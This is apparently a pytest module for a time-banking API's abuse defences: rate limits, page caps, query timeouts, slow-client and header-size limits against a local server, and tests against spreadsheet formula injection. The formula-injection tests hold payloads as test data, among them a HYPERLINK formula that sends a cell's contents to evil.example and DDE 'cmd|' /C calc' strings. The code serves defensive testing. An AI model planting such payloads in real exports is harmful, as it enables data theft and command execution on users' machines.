"""SPEC §3.8 abuse limits: the per-key rate limit (429 ``rate_limited`` with Retry-After),
page-size caps, the statement timeout on report queries, and — against a real ``timebank
serve`` process over raw sockets — the defences against slow and greedy clients (header
and body timeouts, head size limit, connection limit). See docs/security.md."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import os
import re
import shutil
import socket
import subprocess
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import func, select, text, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from tests.conftest import Api, simple
from tests.test_errors import assert_problem, assert_validation
from timebank.access import SYSTEM, Role
from timebank.app import create_app
from timebank.auth.models import ApiKey
from timebank.auth.service import create_key
from timebank.config import Settings
from timebank.db import create_engine, utcnow
from timebank.timebanks.models import TimeBank
from timebank.web.ratelimit import TokenBuckets

ROOT = Path(__file__).resolve().parent.parent
TIMEBANK_CLI = str(ROOT / ".venv" / "bin" / "timebank")
PROBLEM_JSON = "application/problem+json"
Maker = async_sessionmaker[AsyncSession]


def app_with(db_url: str, **settings: Any) -> Litestar:
    return create_app(
        Settings(database_url=db_url, log_json=False, log_level="WARNING", **settings)
    )


async def new_key(session_maker: Maker, role: Role = Role.admin) -> str:
    """A key made in the database directly, so making it spends nothing of a rate limit."""
    async with session_maker() as session:
        created = await create_key(session, SYSTEM, role=role, timebank_id=None, label="abuse")
        await session.commit()
        return created.secret


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


# --- the token bucket itself (no database, no clock: times are given) ----------------------


def test_token_bucket_allows_a_burst_of_the_limit_then_one_request_per_interval() -> None:
    buckets = TokenBuckets(6)  # one every 10 s, bursts of 6
    assert [buckets.take("a", 0.0) for _ in range(6)] == [0.0] * 6
    assert buckets.take("a", 0.0) == pytest.approx(10.0)
    assert buckets.take("a", 9.5) == pytest.approx(0.5)
    assert buckets.take("a", 10.0) == 0.0
    assert buckets.take("a", 10.0) == pytest.approx(10.0)
    assert buckets.take("b", 10.0) == 0.0  # every key has its own bucket
    # after a quiet minute the bucket is full again
    assert [buckets.take("a", 80.0) for _ in range(6)] == [0.0] * 6
    assert buckets.take("a", 80.0) > 0


@pytest.mark.parametrize("now", [1000.00822, 1000.00959, 1000.01096, 1000.02192])
def test_a_fresh_key_is_never_refused_by_floating_point_noise(now: float) -> None:
    """At these clock values ``(now + 60) - now - 60`` is a hair above zero: the bucket
    refused a key's first request (CI: 429 then 200 for a limit of one a minute)."""
    buckets = TokenBuckets(1)
    assert buckets.wait("k", now) == 0.0
    assert buckets.take("k", now) == 0.0
    assert buckets.take("k", now + 0.001) > 59


def test_token_bucket_wait_charges_nothing_and_charge_is_capped() -> None:
    buckets = TokenBuckets(6)
    assert [buckets.wait("a", 0.0) for _ in range(20)] == [0.0] * 20
    assert [buckets.take("a", 0.0) for _ in range(6)] == [0.0] * 6
    for _ in range(1000):
        buckets.charge("b", 0.0)  # refused requests keep charging, but the debt is bounded
    assert buckets.wait("b", 0.0) == pytest.approx(20.0)
    assert buckets.take("b", 20.0) == 0.0


def test_token_bucket_forgets_keys_whose_bucket_is_full_again() -> None:
    buckets = TokenBuckets(60)
    for i in range(1000):
        buckets.take(f"key-{i}", 0.0)
    assert len(buckets) == 1000
    buckets.take("late", 61.0)  # a minute on: the sweep drops every full bucket
    assert len(buckets) == 1


# --- the per-key rate limit through the API ------------------------------------------------


async def test_each_key_has_its_own_rate_limit(db_url: str, session_maker: Maker) -> None:
    first, second = await new_key(session_maker), await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=3)) as c:
        a = [(await c.get("/v1/timebanks", headers=bearer(first))).status_code for _ in range(5)]
        b = [(await c.get("/v1/timebanks", headers=bearer(second))).status_code for _ in range(3)]
    assert a == [200, 200, 200, 429, 429]
    assert b == [200, 200, 200]


async def test_a_keys_requests_to_every_route_count_against_one_limit(
    db_url: str, session_maker: Maker
) -> None:
    secret = await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=5)) as c:
        created = await c.post(
            "/v1/timebanks", json={"slug": "routes", "name": "Routes"}, headers=bearer(secret)
        )
        assert created.status_code == 201, created.text
        paths = ["", "/members", "/categories", "/organisations", "/exchanges"]
        codes = [
            (await c.get(f"/v1/timebanks/routes{p}", headers=bearer(secret))).status_code
            for p in paths
        ]
    assert codes == [200, 200, 200, 200, 429]


async def test_429_is_a_problem_with_retry_after_and_the_refused_write_leaves_nothing(
    db_url: str, session_maker: Maker
) -> None:
    secret = await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=2)) as c:
        for i in range(2):
            body = {"slug": f"bank-{i}", "name": "Bank"}
            assert (
                await c.post("/v1/timebanks", json=body, headers=bearer(secret))
            ).status_code == 201
        r = await c.post(
            "/v1/timebanks",
            json={"slug": "bank-2", "name": "Bank"},
            headers={**bearer(secret), "X-Request-ID": "limited-1"},
        )
    body = assert_problem(r, 429, "rate_limited")
    # 2 a minute: the next token comes within 30 s
    assert 1 <= int(r.headers["Retry-After"]) <= 30
    assert body["retry_after"] == int(r.headers["Retry-After"])
    assert body["request_id"] == r.headers["X-Request-ID"] == "limited-1"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    async with session_maker() as s:
        assert await s.scalar(select(func.count()).select_from(TimeBank)) == 2


async def test_requests_without_a_key_are_limited_by_client_address(
    db_url: str, session_maker: Maker
) -> None:
    secret = await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=3)) as c:
        assert (await c.get("/v1/timebanks", headers=bearer(secret))).status_code == 200
        anonymous = [(await c.get("/v1/timebanks")).status_code for _ in range(3)]
        # a key already seen to authenticate counts only against its own bucket
        still = (await c.get("/v1/timebanks", headers=bearer(secret))).status_code
    assert anonymous == [401, 401, 429]
    assert still == 200


async def test_guessing_keys_is_limited_per_address_while_a_key_in_use_is_served(
    db_url: str, session_maker: Maker
) -> None:
    used, unused = await new_key(session_maker), await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=4)) as c:
        assert (await c.get("/v1/timebanks", headers=bearer(used))).status_code == 200
        guesses = [
            await c.get("/v1/timebanks", headers=bearer(f"tbk_guess{i}{uuid.uuid4().hex}"))
            for i in range(5)
        ]
        served = (await c.get("/v1/timebanks", headers=bearer(used))).status_code
        # a key not yet seen to authenticate counts against the address too, and the
        # address is spent: refused before the database is asked (documented trade-off)
        fresh = await c.get("/v1/timebanks", headers=bearer(unused))
    assert [r.status_code for r in guesses] == [401, 401, 401, 429, 429]
    assert_problem(guesses[-1], 429, "rate_limited")
    assert served == 200
    assert_problem(fresh, 429, "rate_limited")


async def test_a_revoked_key_is_charged_to_its_address_once_refused(
    db_url: str, session_maker: Maker
) -> None:
    secret = await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=3)) as c:
        assert (await c.get("/v1/timebanks", headers=bearer(secret))).status_code == 200
        async with session_maker() as s:
            await s.execute(update(ApiKey).values(revoked_at=utcnow()))
            await s.commit()
        refused = [
            (await c.get("/v1/timebanks", headers=bearer(secret))).status_code for _ in range(2)
        ]
        # the first request and both 401s went to the address: anonymous callers there wait
        anonymous = await c.get("/v1/timebanks")
    assert refused == [401, 401]
    assert_problem(anonymous, 429, "rate_limited")


async def test_health_and_ready_are_never_rate_limited(db_url: str, session_maker: Maker) -> None:
    secret = await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=1)) as c:
        probes = [(await c.get(p)).status_code for p in ("/health", "/ready") * 5]
        probes += [(await c.get("/ready", headers=bearer(secret))).status_code for _ in range(3)]
        api = [(await c.get("/v1/timebanks", headers=bearer(secret))).status_code for _ in range(2)]
    assert probes == [200] * 13
    assert api == [200, 429]  # the probes spent none of the key's one request


async def test_rate_limit_zero_turns_it_off(db_url: str, session_maker: Maker) -> None:
    secret = await new_key(session_maker)
    async with AsyncTestClient(app=app_with(db_url, rate_limit_per_minute=0)) as c:
        codes = [
            (await c.get("/v1/timebanks", headers=bearer(secret))).status_code for _ in range(25)
        ]
        anonymous = [(await c.get("/v1/timebanks")).status_code for _ in range(5)]
    assert codes == [200] * 25
    assert anonymous == [401] * 5


def test_rate_limit_defaults_to_1200_a_minute(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TIMEBANK_RATE_LIMIT_PER_MINUTE", raising=False)
    assert Settings().rate_limit_per_minute == 1200
    monkeypatch.setenv("TIMEBANK_RATE_LIMIT_PER_MINUTE", "-1")
    with pytest.raises(ValueError, match="rate_limit_per_minute"):
        Settings()


async def test_every_v1_operation_documents_429_as_problem_json(
    client: AsyncTestClient[Any],
) -> None:
    doc = (await client.get("/schema/openapi.json")).json()
    ops = [
        (method, path, op)
        for path, item in doc["paths"].items()
        if path.startswith("/v1")
        for method, op in item.items()
        if method in ("get", "post", "patch", "put", "delete")
    ]
    assert len(ops) >= 20
    for method, path, op in ops:
        response = op["responses"].get("429")
        assert response, f"{method.upper()} {path} does not document 429"
        assert PROBLEM_JSON in response["content"], f"{method.upper()} {path}: {response}"


# --- page size caps -------------------------------------------------------------------------


async def test_every_list_operation_caps_its_page_size_at_500(
    api: Api, client: AsyncTestClient[Any]
) -> None:
    """Found from the OpenAPI document, so a list added later is covered too."""
    tb = await api.timebank()
    ann = await api.member(tb["slug"], "Ann")
    org = await api.organisation(tb["slug"])
    # a public address, never sent to here (no dispatcher runs in this test)
    hook = await api.ok("post", f"/v1/timebanks/{tb['slug']}/webhooks", {"url": "http://1.1.1.1/"})
    ids = {
        "tb": tb["slug"],
        "member_id": ann["id"],
        "organisation_id": org["id"],
        "webhook_id": hook["id"],
    }
    doc = (await client.get("/schema/openapi.json")).json()
    lists = [
        path.format(**ids)
        for path, item in doc["paths"].items()
        if any(p["name"] == "limit" for p in item.get("get", {}).get("parameters", []))
    ]
    assert len(lists) >= 8, lists
    for path in lists:
        assert_validation(await api.get(f"{path}?limit=501"), "limit")
        assert_validation(await api.get(f"{path}?limit=0"), "limit")
        r = await api.get(f"{path}?limit=500")
        assert r.status_code == 200, f"{path}: {r.status_code} {r.text}"
        assert len(r.json()["items"]) <= 500


# --- the statement timeout on report queries (PostgreSQL) -----------------------------------


@pytest.mark.postgres_only
async def test_report_query_over_the_statement_timeout_is_a_503_problem_not_a_500(
    db_url: str, session_maker: Maker, admin_secret: str
) -> None:
    app = app_with(db_url, report_timeout_ms=200)
    async with AsyncTestClient(app=app, timeout=60) as c:
        api = Api(c, admin_secret)
        tb = await api.timebank()
        ann, bob = await api.member(tb["slug"], "Ann"), await api.member(tb["slug"], "Bob")
        assert (await api.exchange(tb["slug"], simple(ann, bob, 60))).status_code == 201
        path = f"/v1/timebanks/{tb['slug']}/reports/summary"
        # Another transaction holds the exchanges table, so the report's query waits on the
        # lock until its statement timeout cancels it: slow for certain, on any machine.
        async with session_maker() as holder:
            await holder.execute(text("LOCK TABLE exchanges IN ACCESS EXCLUSIVE MODE"))
            r = await api.get(path)
            await holder.rollback()
        body = assert_problem(r, 503, "report_timeout")
        assert "200 ms" in body["detail"]
        # the pooled connection is fine afterwards: the same report now succeeds
        again = await api.get(path)
        assert again.status_code == 200, again.text
        assert again.json()["report"] == "summary"


async def test_report_timeout_is_configurable_and_documented(
    client: AsyncTestClient[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TIMEBANK_REPORT_TIMEOUT_MS", "1234")
    assert Settings().report_timeout_ms == 1234
    doc = (await client.get("/schema/openapi.json")).json()
    op = doc["paths"]["/v1/timebanks/{tb}/reports/{name}"]["get"]
    assert "report_timeout" in op["responses"]["503"]["description"]


# --- slow and greedy clients against a real server process ----------------------------------

HEADER_TIMEOUT = 2
MAX_CONNECTIONS = 6
MAX_HEADER_BYTES = 4096
PATIENCE = 30  # seconds a test waits for the server to act before declaring it never will


@dataclass
class Server:
    port: int
    secret: str
    log: Path

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


async def _make_admin_key(url: str) -> str:
    engine = create_engine(Settings(database_url=url))
    try:
        return await new_key(async_sessionmaker(engine, expire_on_commit=False))
    finally:
        await engine.dispose()


@pytest.fixture(scope="module")
def server(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """``timebank serve`` on SQLite with short timeouts and small limits (the protocol layer
    under test does not depend on the database engine)."""
    root = tmp_path_factory.mktemp("slow-clients")
    db = root / "server.db"
    shutil.copy(sqlite_template, db)
    url = f"sqlite+aiosqlite:///{db}"
    secret = asyncio.run(_make_admin_key(url))
    env = {
        **os.environ,
        "TIMEBANK_DATABASE_URL": url,
        "TIMEBANK_LOG_LEVEL": "WARNING",
        "TIMEBANK_HEADER_TIMEOUT_SECONDS": str(HEADER_TIMEOUT),
        "TIMEBANK_BODY_TIMEOUT_SECONDS": str(HEADER_TIMEOUT),
        "TIMEBANK_KEEP_ALIVE_TIMEOUT_SECONDS": "1",
        "TIMEBANK_MAX_CONNECTIONS": str(MAX_CONNECTIONS),
        "TIMEBANK_MAX_HEADER_BYTES": str(MAX_HEADER_BYTES),
    }
    port = _free_port()
    log = root / "server.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [TIMEBANK_CLI, "serve", "--port", str(port)],
            env=env,
            cwd=root,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        for _ in range(600):
            if proc.poll() is not None:
                pytest.fail(f"server exited with {proc.returncode}:\n{log.read_text()}")
            try:
                if httpx.get(f"http://127.0.0.1:{port}/health", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                time.sleep(0.1)
        else:
            pytest.fail(f"server never became healthy:\n{log.read_text()}")
        yield Server(port, secret, log)
    finally:
        proc.terminate()
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(30)


@dataclass
class Reply:
    status: int
    headers: dict[str, str]
    body: bytes

    def problem(self) -> dict[str, Any]:
        assert self.headers.get("content-type", "").startswith(PROBLEM_JSON), self
        body: dict[str, Any] = json.loads(self.body)
        assert body["status"] == self.status, body
        return body


def parse_reply(raw: bytes) -> Reply:
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return Reply(status, headers, body)


@contextlib.asynccontextmanager
async def connection(
    server: Server,
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    try:
        yield reader, writer
    finally:
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


async def until_closed(reader: asyncio.StreamReader, what: str) -> bytes:
    """Everything the server sends until it closes the connection; fails if it never does."""
    chunks = []
    try:
        async with asyncio.timeout(PATIENCE):
            while chunk := await reader.read(65536):
                chunks.append(chunk)
    except TimeoutError:
        pytest.fail(f"the server kept {what} open for {PATIENCE} s")
    except ConnectionResetError:
        pass
    return b"".join(chunks)


async def trickle(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes, what: str
) -> bytes:
    """Send ``data`` a byte every 50 ms (then nothing) until the server answers or closes;
    return all it sent."""
    stream = iter(data)
    try:
        async with asyncio.timeout(PATIENCE):
            while True:
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(0.05):
                        first = await reader.read(65536)
                        return first + (await until_closed(reader, what) if first else b"")
                byte = next(stream, None)
                if byte is not None:
                    writer.write(bytes([byte]))
                    await writer.drain()
    except TimeoutError:
        pytest.fail(f"the server let {what} trickle for {PATIENCE} s")
    except (ConnectionResetError, BrokenPipeError):
        return b""


async def request_status(server: Server, path: str = "/health") -> int:
    async with httpx.AsyncClient(base_url=server.base, timeout=PATIENCE) as c:
        return (await c.get(path, headers=bearer(server.secret))).status_code


@pytest.mark.slow
async def test_slow_and_idle_clients_are_cut_off_without_starving_others(
    server: Server,
) -> None:
    async def slow_head() -> bytes:
        async with connection(server) as (reader, writer):
            head = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 1000
            return await trickle(reader, writer, head, "a client trickling its head")

    async def silent() -> bytes:
        async with connection(server) as (reader, _):
            return await until_closed(reader, "a connection that sent nothing")

    async def keep_alive_then_blank_lines() -> bytes:
        async with connection(server) as (reader, writer):
            writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
            head = await reader.readuntil(b"\r\n\r\n")
            length = int(parse_reply(head).headers["content-length"])
            await reader.readexactly(length)
            # uvicorn alone keeps this open for ever: any byte cancels its keep-alive timer
            return await trickle(
                reader, writer, b"\r\n" * 1000, "a keep-alive connection sending CRLFs"
            )

    attackers = [
        asyncio.create_task(f())
        for f in (slow_head, slow_head, silent, keep_alive_then_blank_lines)
    ]
    await asyncio.sleep(0.2)
    # while they hold their connections, everyone else is served
    assert [await request_status(server, "/v1/timebanks") for _ in range(5)] == [200] * 5
    assert not all(t.done() for t in attackers)
    heads = await asyncio.gather(*attackers)
    for raw in heads[:2]:
        reply = parse_reply(raw)
        assert reply.status == 408, raw
        assert reply.problem()["code"] == "request_timeout"
        assert reply.headers["connection"] == "close"
    assert heads[2] == b""  # closed without an unasked-for response
    assert heads[3] == b"" or parse_reply(heads[3]).status == 408
    assert await request_status(server) == 200


@pytest.mark.slow
async def test_over_the_connection_limit_requests_get_503_until_idle_ones_are_closed(
    server: Server,
) -> None:
    for _attempt in range(3):
        idle = [
            await asyncio.open_connection("127.0.0.1", server.port) for _ in range(MAX_CONNECTIONS)
        ]
        try:
            async with connection(server) as (reader, writer):
                writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
                reply = parse_reply(await until_closed(reader, "a refused connection"))
            # on a stalled machine the idle ones may have been closed first: try again
            still_open = [not r.at_eof() for r, _ in idle]
            if reply.status == 200 and not all(still_open):
                continue
            assert reply.status == 503, reply
            assert reply.problem()["code"] == "unavailable"
            assert int(reply.headers["retry-after"]) >= 1
            # the idle connections are closed after the header timeout; then all is well
            for r, _ in idle:
                assert await until_closed(r, "an idle connection") == b""
            assert await request_status(server) == 200
            return
        finally:
            for _, w in idle:
                w.close()
    pytest.fail("the idle connections never outlived one request (machine too slow?)")


@pytest.mark.slow
async def test_request_head_over_the_size_limit_gets_431(server: Server) -> None:
    big = b"X-Big: " + b"a" * (2 * MAX_HEADER_BYTES) + b"\r\n"
    async with connection(server) as (reader, writer):  # all at once
        writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\n" + big + b"\r\n")
        at_once = parse_reply(await until_closed(reader, "an oversized head"))
    async with connection(server) as (reader, writer):  # in pieces, never finished
        writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        for _ in range(3):  # 3 × half the limit, as separate reads; then stop and listen
            writer.write(big[: MAX_HEADER_BYTES // 2])
            await writer.drain()
            await asyncio.sleep(0.1)
        in_pieces = parse_reply(await until_closed(reader, "an endless head"))
    for reply in (at_once, in_pieces):
        assert reply.status == 431, reply
        assert reply.problem()["code"] == "header_too_large"
    ok = (
        b"GET /health HTTP/1.1\r\nHost: x\r\nX-Fine: "
        + b"a" * 1000
        + b"\r\nConnection: close\r\n\r\n"
    )
    async with connection(server) as (reader, writer):
        writer.write(ok)
        assert parse_reply(await until_closed(reader, "a normal request")).status == 200


@pytest.mark.slow
async def test_a_body_that_does_not_arrive_in_time_gets_408_and_writes_nothing(
    server: Server,
) -> None:
    body = json.dumps({"slug": "slow-body", "name": "Slow body"}).encode()
    head = (
        "POST /v1/timebanks HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {server.secret}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()
    async with connection(server) as (reader, writer):
        writer.write(head)
        raw = await trickle(reader, writer, body[:-1], "a client trickling its body")
    reply = parse_reply(raw)
    assert reply.status == 408, raw
    assert reply.problem()["code"] == "request_timeout"
    assert reply.headers["connection"] == "close"
    async with httpx.AsyncClient(base_url=server.base, timeout=PATIENCE) as c:
        listed = await c.get("/v1/timebanks", headers=bearer(server.secret))
    assert "slow-body" not in [t["slug"] for t in listed.json()["items"]]


# --- output consumed by spreadsheets: no formula injection (docs/security.md, API10) --------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'


async def test_statement_csv_never_starts_a_cell_with_a_formula(api: Api) -> None:
    tb = await api.timebank()
    slug = tb["slug"]
    ann = await api.member(slug, "Ann")
    mallory = await api.member(slug, "+cmd|' /C calc'!A0")
    for text_ in (EVIL, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"):
        r = await api.exchange(slug, simple(mallory, ann, 30, description=text_))
        assert r.status_code == 201, r.text
    r = await api.get(f"/v1/timebanks/{slug}/members/{ann['id']}/statement?format=csv")
    assert r.status_code == 200, r.text
    every = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in every for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)], every
    # the text itself is kept, behind a leading apostrophe (OWASP's advice)
    assert any(c == "'" + EVIL for c in cells), every
    assert ["statement_of", "'+cmd|' /C calc'!A0"] not in every  # Ann's statement, not his
    rows = every[every.index([]) + 1 :]  # the table, after the header rows and a blank row
    signed = [row[rows[0].index("minutes")] for row in rows[2:-1]]  # entries only
    assert signed == ["-30"] * 3 or all(_is_number(v) for v in signed), signed


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_report_csv_and_xlsx_never_carry_a_formula(api: Api) -> None:
    tb = await api.timebank(suppression_threshold=5)
    slug = tb["slug"]
    org = await api.organisation(slug, EVIL)
    members = [await api.member(slug, f"M{i}") for i in range(6)]
    for m in members:
        r = await api.exchange(slug, simple(m, org, 60, category="community-events"))
        assert r.status_code == 201, r.text
    path = f"/v1/timebanks/{slug}/reports/organisations"
    as_csv = await api.get(f"{path}?format=csv")
    assert as_csv.status_code == 200, as_csv.text
    cells = [c for row in csv.reader(io.StringIO(as_csv.text)) for c in row]
    assert "'" + EVIL in cells, cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    as_xlsx = await api.get(f"{path}?format=xlsx")
    assert as_xlsx.status_code == 200, as_xlsx.text
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx.content))
    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in values if c.data_type == "f"], "a formula cell"
    assert EVIL in [c.value for c in values]


def test_the_service_code_makes_no_outbound_requests() -> None:
    """OWASP API7 (SSRF): nothing takes a URL from a request and fetches it, because the
    service imports no HTTP client, mail client or raw socket module at all — but for the
    webhooks, whose SSRF defences (public addresses only, checked when an endpoint is added
    and before each delivery; no redirects followed) are tested in tests/test_webhooks.py.
    Another change that adds one fails here and must come with its own."""
    webhooks = {"timebank/events/dispatch.py", "timebank/events/webhooks.py"}
    outbound = re.compile(
        r"^\s*(?:import|from)\s+(httpx|requests|aiohttp|urllib3?|http\.client|socket|smtplib"
        r"|ftplib|asyncio\.open_connection)\b",
        re.MULTILINE,
    )
    hits = [
        f"{path.relative_to(ROOT)}: {match.group(0).strip()}"
        for path in sorted((ROOT / "timebank").rglob("*.py"))
        if str(path.relative_to(ROOT)) not in webhooks
        for match in outbound.finditer(path.read_text())
    ]
    assert hits == []
